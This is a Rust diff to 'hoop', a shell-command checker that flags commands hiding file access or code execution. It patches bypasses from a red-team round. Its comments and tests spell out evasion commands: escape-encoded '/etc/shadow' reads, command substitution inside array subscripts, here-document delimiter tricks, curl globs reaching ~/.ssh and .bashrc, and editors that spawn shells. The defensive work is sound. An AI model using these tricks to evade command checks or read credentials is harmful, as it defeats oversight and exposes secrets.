@@ -40,6 +40,10 @@ const WRAPPERS: &[&str] = &["sudo", "doas", "env", "nohup", "nice", "ionice", "t
 const RESHAPING: &[&str] = &[
     "eval", "source", ".", "alias", "unalias", "export", "declare", "typeset", "local", "readonly", "shopt", "enable", "trap",
     "hash", "coproc", "fc", "history", "read", "getopts", "mapfile", "readarray",
+    // Arithmetic and names evaluated at run time: an array subscript in them runs a command
+    // substitution (`let 'x[$(id)]'`, red-team round 28). Completions and key bindings store
+    // commands the shell runs later.
+    "let", "unset", "compgen", "complete", "compopt", "bind",
 ];
 /// Directories whose programs are the system's own: a program named by a path elsewhere is
 /// a file on the host (a script the caller may have written) whose content hoop cannot read.
@@ -48,6 +52,9 @@ const SYSTEM_BIN: &[&str] = &["/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/us
 /// schedulers, onward connections).
 const CODE_RUNNERS: &[&str] = &[
     "make", "gmake", "ninja", "npx", "vi", "vim", "nvim", "ex", "view", "emacs", "crontab", "at", "batch", "systemd-run", "ssh",
+    // Editors and macro processors with a command to run a shell (red-team round 28: `ed`'s `!`).
+    "ed", "red", "editor", "sensible-editor", "rvim", "rview", "vimdiff", "nano", "pico", "joe", "jed", "mcedit", "mc", "m4", "lldb",
+    "sftp-server",
     "expect", "ld.so", "ld-linux.so.2", "ld-linux-x86-64.so.2", "sshpass",
     // Wrappers whose options hoop does not model: what they run is not followed, so they are
     // held rather than read wrong.
@@ -334,12 +341,33 @@ impl Walker<'_> {
             self.r.programs.push(program.clone());
         }
         let args = argv.get(1..).unwrap_or_default();
-        let p = program.as_str();
+        let p = known_name(program.as_str());
+        // Rules see the plain name too (`vim` for `vim.basic`).
+        if !self.r.programs.iter().any(|q| q == p) {
+            self.r.programs.push(p.to_string());
+        }
         if raw_program.contains('/') && !SYSTEM_BIN.iter().any(|d| raw_program.starts_with(d)) {
             return self.interpreter(raw_program, "a program file on the host, whose content hoop cannot read");
         }
         if RESHAPING.contains(&p) || (p == "printf" && args.iter().any(|a| a.starts_with("-v"))) {
             return self.r.unreadable(format!("{p} changes how the shell reads what follows"));
+        }
+        // `test -v 'a[$(cmd)]'` evaluates the subscript; `wait -p NAME` assigns to NAME.
+        if (matches!(p, "test" | "[") && args.iter().any(|a| a == "-v" || a == "-R")) || (p == "wait" && args.iter().any(|a| a.starts_with("-p"))) {
+            return self.r.unreadable(format!("{p} evaluates a variable name, whose subscript can run a command"));
+        }
+        if let Some(why) = names_at_run_time(p, args) {
+            return self.r.unreadable(format!("{p} {why}"));
+        }
+        // Its relative arguments are read in that directory: they are paths there too.
+        match other_directory(p, args) {
+            Some(Ok(dir)) => {
+                for a in args.iter().filter(|a| !a.starts_with('-') && !a.starts_with('/') && !a.contains('=')) {
+                    self.path(&format!("{}/{a}", dir.trim_end_matches('/')));
+                }
+            }
+            Some(Err(())) => return self.r.unreadable(format!("{p} moves to a directory given relative to where it starts")),
+            None => {}
         }
         if let Some(why) = runs_code(p, args) {
             return self.interpreter(&program, why);
@@ -563,6 +591,12 @@ impl Walker<'_> {
                 if doc.requires_expansion && (doc.doc.value.contains('$') || doc.doc.value.contains('`')) {
                     self.r.unreadable("a here-document with expansions");
                 }
+                // With an unquoted delimiter bash joins `\`-newline before it looks for the
+                // delimiter, so `EO\⏎F` ends the document and what the grammar read as its text
+                // runs as commands (red-team round 28).
+                if doc.requires_expansion && doc.doc.value.contains("\\\n") {
+                    self.r.unreadable("a here-document with a backslash at the end of a line");
+                }
             }
         }
     }
@@ -583,6 +617,22 @@ impl Walker<'_> {
 
     /// A path-like argument (or the value of `--opt=/path`), normalised.
     fn path(&mut self, arg: &str) {
+        // `-f/etc/shadow`, `-hf/etc/gshadow`: a path glued to short options (red-team round
+        // 28) is a path too, beside whatever else the word is.
+        if let Some(glued) = arg.strip_prefix('-').filter(|a| !a.starts_with('-')).and_then(|a| a.find(['/', '~']).map(|i| a.get(i..).unwrap_or_default())) {
+            if !glued.is_empty() && glued != arg {
+                self.path(glued);
+            }
+        }
+        // `file:///home/u/%2essh/x` (curl, wget, git): the file it names, decoded as they do.
+        if let Some(rest) = arg.get(..7).filter(|p| p.eq_ignore_ascii_case("file://")).and_then(|_| arg.get(7..)) {
+            let local = rest.find('/').and_then(|i| rest.get(i..)).unwrap_or(rest);
+            match percent_decoded(local) {
+                Some(path) => self.path(&path),
+                None => self.r.unreadable(format!("{arg} names a file hoop cannot decode")),
+            }
+            return;
+        }
         // `--file=/x`, `of=/x` (dd), `path=/x`: the value is the path.
         let candidate = match arg.split_once('=') {
             Some((opt, v)) if opt.starts_with('-') || (!opt.is_empty() && opt.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')) => v,
@@ -706,27 +756,89 @@ fn is_brace_expansion(t: &str) -> bool {
     })
 }
 
-/// `$'…'` escapes, for the common ones; anything else keeps its backslash (a rule sees more,
-/// never less, than runs).
+/// `$'…'` as bash decodes it: `\n`-style letters, `\cX` controls, up to three octal digits, up
+/// to two hex digits after `\x`, four after `\u`, eight after `\U`; a NUL ends the word (bash
+/// cuts it there). An escape bash does not know keeps its backslash, as in bash (red-team round
+/// 28: `$'/etc/\x73hadow'` was checked as written and ran as `/etc/shadow`).
 fn ansi_c(t: &str) -> String {
     let mut out = String::new();
-    let mut chars = t.chars();
+    let mut chars = t.chars().peekable();
+    // Up to `max` digits of `radix`, as a number (none: `None`).
+    fn digits(chars: &mut std::iter::Peekable<std::str::Chars<'_>>, radix: u32, max: usize) -> Option<u32> {
+        let mut v: Option<u32> = None;
+        for _ in 0..max {
+            let Some(d) = chars.peek().and_then(|c| c.to_digit(radix)) else { break };
+            chars.next();
+            v = Some(v.unwrap_or(0).wrapping_mul(radix).wrapping_add(d));
+        }
+        v
+    }
     while let Some(c) = chars.next() {
         if c != '\\' {
             out.push(c);
             continue;
         }
-        match chars.next() {
-            Some('n') => out.push('\n'),
-            Some('t') => out.push('\t'),
-            Some('\\') => out.push('\\'),
-            Some('\'') => out.push('\''),
-            Some('"') => out.push('"'),
-            Some(o) => {
-                out.push('\\');
-                out.push(o);
+        let Some(e) = chars.next() else {
+            out.push('\\');
+            break;
+        };
+        let decoded: Option<char> = match e {
+            'a' => Some('\u{7}'),
+            'b' => Some('\u{8}'),
+            'e' | 'E' => Some('\u{1b}'),
+            'f' => Some('\u{c}'),
+            'n' => Some('\n'),
+            'r' => Some('\r'),
+            't' => Some('\t'),
+            'v' => Some('\u{b}'),
+            '\\' | '\'' | '"' | '?' => Some(e),
+            'c' => match chars.next() {
+                // `\c\\` is FS; `\cX` is X's control character.
+                Some(x) => Some(char::from((x.to_ascii_uppercase() as u32 & 0x1f) as u8)),
+                None => {
+                    out.push_str("\\c");
+                    continue;
+                }
+            },
+            '0'..='7' => {
+                let mut v = e.to_digit(8).unwrap_or(0);
+                for _ in 0..2 {
+                    match chars.peek().and_then(|c| c.to_digit(8)) {
+                        Some(d) => {
+                            chars.next();
+                            v = v * 8 + d;
+                        }
+                        None => break,
+                    }
+                }
+                Some(char::from((v & 0xff) as u8))
             }
-            None => out.push('\\'),
+            'x' => match digits(&mut chars, 16, 2) {
+                Some(v) => Some(char::from(v as u8)),
+                None => {
+                    out.push_str("\\x");
+                    continue;
+                }
+            },
+            'u' | 'U' => match digits(&mut chars, 16, if e == 'u' { 4 } else { 8 }) {
+                Some(v) => Some(char::from_u32(v).unwrap_or('\u{fffd}')),
+                None => {
+                    out.push('\\');
+                    out.push(e);
+                    continue;
+                }
+            },
+            other => {
+                out.push('\\');
+                out.push(other);
+                continue;
+            }
+        };
+        match decoded {
+            // bash ends the word at a NUL.
+            Some('\0') => break,
+            Some(ch) => out.push(ch),
+            None => {}
         }
     }
     out
@@ -746,6 +858,8 @@ fn wrapped<'a>(wrapper: &str, args: &'a [String]) -> Option<&'a [String]> {
         "chrt" | "taskset" => &["-p"],
         "flock" => &["-w", "-E", "-c"],
         "strace" | "ltrace" => &["-e", "-o", "-p", "-s", "-u", "-E"],
+        // `exec -a NAME CMD` runs CMD under another name.
+        "exec" => &["-a"],
         _ => &[],
     };
     let mut i = 0;
@@ -781,6 +895,25 @@ fn program_name(word: &str) -> &str {
     word.rsplit('/').next().unwrap_or(word)
 }
 
+/// The program a versioned or alternative name stands for, when the lists know it under its
+/// plain name: `tclsh8.6` → `tclsh`, `vim.basic` → `vim`, `python3.11` → `python3` (red-team
+/// round 28: Debian's alternative names ran interpreters and editors unreviewed).
+fn known_name(p: &str) -> &str {
+    let known = |n: &str| SHELLS.contains(&n) || INTERPRETERS.contains(&n) || CODE_RUNNERS.contains(&n) || WRAPPERS.contains(&n) || RESHAPING.contains(&n);
+    if known(p) {
+        return p;
+    }
+    let dotted = p.split_once('.').map_or(p, |(b, _)| b);
+    if !dotted.is_empty() && known(dotted) {
+        return dotted;
+    }
+    let trimmed = p.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-' || c == '_');
+    if !trimmed.is_empty() && known(trimmed) {
+        return trimmed;
+    }
+    p
+}
+
 fn is_interpreter(p: &str) -> bool {
     INTERPRETERS.contains(&p)
         || p.strip_prefix("python").is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
@@ -799,6 +932,66 @@ fn resolve_tilde(path: &str) -> String {
         "root" => format!("/root/{tail}"),
         u => format!("/home/{u}/{tail}"),
     }
+}
+
+/// Why `program` with `args` writes or reads files whose names it makes at run time, or in
+/// another directory than its relative paths say, if it does (red-team round 28: a backup
+/// suffix made `~/.bash` into `~/.bashrc`, a curl glob `{.ss}h` and `-o '#1h'` reached
+/// `~/.ssh`, `tar -C/etc shadow` read `/etc/shadow`). Rules match paths as written, so a name
+/// the program composes is one hoop cannot read.
+fn names_at_run_time(program: &str, args: &[String]) -> Option<&'static str> {
+    let has = |pred: &dyn Fn(&str) -> bool| args.iter().any(|a| pred(a));
+    let short = |a: &str, letters: &[char]| a.starts_with('-') && !a.starts_with("--") && a.contains(letters);
+    match program {
+        "cp" | "mv" | "install" | "ln" | "rsync" if has(&|a| short(a, &['b', 'S']) || a.starts_with("--backup") || a.starts_with("--suffix")) => {
+            Some("makes backup names at run time (a suffix added to a path)")
+        }
+        "gzip" | "gunzip" | "zcat" | "xz" | "unxz" | "lzma" | "unlzma" | "zstd" | "unzstd" | "pigz" | "unpigz" | "lz4" | "lzip"
+            if has(&|a| short(a, &['S']) || a.starts_with("--suffix")) =>
+        {
+            Some("adds a suffix of its options to the names it writes")
+        }
+        "split" | "csplit" => Some("names the files it writes at run time"),
+        "patch" => Some("writes files named inside a patch"),
+        "curl" if has(&|a| a == "-K" || a.starts_with("--config") || short(a, &['K'])) => Some("reads options from a file at run time"),
+        "curl" if !has(&|a| short(a, &['g']) || a == "--globoff") && has(&|a| !a.starts_with('-') && a.contains(['{', '['])) => {
+            Some("expands globs in its URLs at run time")
+        }
+        "curl" if has(&|a| a.contains('#') && a.chars().skip_while(|c| *c != '#').nth(1).is_some_and(|c| c.is_ascii_digit())) => {
+            Some("names its output after glob matches at run time")
+        }
+        _ => None,
+    }
+}
+
+/// The directory `program` moves to before it reads its relative paths (`tar -C /etc`,
+/// `env --chdir=/etc`, `git -C dir`, `sudo -D dir`), if it names one: `Err` when it is not
+/// absolute, so the paths cannot be known.
+fn other_directory(program: &str, args: &[String]) -> Option<Result<String, ()>> {
+    let (short, long): (&str, &[&str]) = match program {
+        "tar" | "bsdtar" => ("-C", &["--directory"]),
+        "env" => ("-C", &["--chdir"]),
+        "git" => ("-C", &[]),
+        "sudo" => ("-D", &["--chdir"]),
+        _ => return None,
+    };
+    let mut it = args.iter();
+    while let Some(a) = it.next() {
+        let dir = if a == short || long.contains(&a.as_str()) {
+            it.next().cloned()
+        } else if let Some(v) = long.iter().find_map(|l| a.strip_prefix(l).and_then(|r| r.strip_prefix('='))) {
+            Some(v.to_string())
+        } else if program != "sudo" && program != "git" && a.starts_with(short) && a.len() > 2 {
+            a.get(2..).map(str::to_string)
+        } else {
+            None
+        };
+        if let Some(dir) = dir {
+            let dir = resolve_tilde(&dir);
+            return Some(if dir.starts_with('/') { Ok(dir) } else { Err(()) });
+        }
+    }
+    None
 }
 
 /// Whether `args` make `program` run code hoop cannot read: why, if so.
@@ -940,6 +1133,28 @@ fn sed_script_executes(script: &str) -> bool {
         }
     }
     false
+}
+
+/// `%XX` escapes decoded (`None` for a malformed one, a NUL, or bytes that are not UTF-8).
+fn percent_decoded(s: &str) -> Option<String> {
+    let b = s.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while let Some(&c) = b.get(i) {
+        if c == b'%' {
+            let hex = std::str::from_utf8(b.get(i + 1..i + 3)?).ok()?;
+            let v = u8::from_str_radix(hex, 16).ok()?;
+            if v == 0 {
+                return None;
+            }
+            out.push(v);
+            i += 3;
+        } else {
+            out.push(c);
+            i += 1;
+        }
+    }
+    String::from_utf8(out).ok()
 }
 
 /// Lexical normalisation: `//` and `/./` collapse, `a/../` cancels; a relative path that
@@ -1168,6 +1383,58 @@ mod tests {
         }
         assert!(read_line("grep -r root /etc --include=shadow").paths.contains(&"/etc/**".to_string()));
         assert!(read_line("sg root 'cat /etc/shadow'").paths.contains(&"/etc/shadow".to_string()));
+    }
+
+    #[test]
+    fn red_team_round_28() {
+        // `$'…'` decoded as bash decodes it.
+        for (line, path) in [
+            (r"cat $'/etc/\x73hadow'", "/etc/shadow"),
+            (r"cat $'/etc/\163hadow'", "/etc/shadow"),
+            (r"cat $'/etc/\u0073hadow'", "/etc/shadow"),
+            (r"cat $'/etc/\U00000073hadow'", "/etc/shadow"),
+            (r"echo x >> $'/home/web/\x2ebashrc'", "/home/web/.bashrc"),
+            (r"cat $'/etc/sha\x64ow\x00.txt'", "/etc/shadow"),
+        ] {
+            assert!(read_line(line).paths.contains(&path.to_string()), "{line}: {:?}", read_line(line));
+        }
+        assert_eq!(ansi_c(r"\x073"), "\u{7}3", "two hex digits at most");
+        assert_eq!(ansi_c(r"\0163"), "\u{e}3", "three octal digits at most");
+        assert_eq!(ansi_c(r"\ca\z"), "\u{1}\\z");
+        for line in [r"$'py\x74hon3' -c 'print(1)'", r"echo id | $'\x73h'", "exec -a x python3 -c 1", "tclsh8.6", "vim.basic -es -c '!id' -c q", "printf '!id\n' | ed", "editor -es", "/usr/lib/openssh/sftp-server"] {
+            let r = read_line(line);
+            assert!(!r.interpreter.is_empty() || !r.unreadable.is_empty(), "{line}: {r:?}");
+        }
+        unreadable(r"$'\x65val' 'cat /etc/shadow'");
+        // Arithmetic on a name runs the command substitution in its subscript.
+        for line in ["let 'x[$(id)]=1'", "test -v 'x[$(id)]'", "[ -v 'x[$(id)]' ]", "unset 'a[$(id)]'", "wait -p 'a[$(id)]'", "compgen -W '$(id)'", r#"bind -x '"Q": cat /etc/shadow'"#] {
+            unreadable(line);
+        }
+        // A here-document that bash ends earlier than the grammar.
+        unreadable("cat <<EOF\nharmless\nEO\\\nF\ncat /etc/shadow\nEOF");
+        assert!(read_line("cat <<'EOF'\nplain \\\nEOF").unreadable.is_empty());
+        // Paths glued to short options, or read in another directory.
+        assert!(read_line("grep -hf/etc/gshadow /dev/null").paths.contains(&"/etc/gshadow".to_string()));
+        assert!(read_line("sed -f/etc/shadow /dev/null").paths.contains(&"/etc/shadow".to_string()));
+        for line in ["tar -cvf- -C/etc shadow", "tar -cf - -C /etc shadow", "env -C /etc cat shadow", "env --chdir=/etc cat shadow", "git -C /etc diff --no-index shadow /dev/null"] {
+            assert!(read_line(line).paths.iter().any(|p| p.starts_with("/etc/shadow")), "{line}: {:?}", read_line(line));
+        }
+        unreadable("tar -cf - -C etc shadow");
+        // Names the program composes at run time.
+        for line in [
+            "cp -b -S rc /tmp/p /home/web/.bash",
+            "mv --backup --suffix=rc a .bash",
+            "gzip -S rc .bash",
+            "csplit -f .bash -b 'rc%.0d' /tmp/p 1",
+            "curl -s 'file:///tmp/{.ss}h/../ak' -o '/home/web/#1h/authorized_keys'",
+            "curl -o '/home/web/#1rc' 'http://x/[1-2]'",
+            "curl -K /tmp/cfg",
+        ] {
+            unreadable(line);
+        }
+        assert!(read_line("curl -s file:///home/web/%2essh/authorized_keys").paths.contains(&"/home/web/.ssh/authorized_keys".to_string()));
+        assert!(read_line("curl -sg 'http://x/{a}' -o /tmp/out").unreadable.is_empty());
+        assert!(read_line("cp /tmp/a /tmp/b").unreadable.is_empty());
     }
 
     #[test]
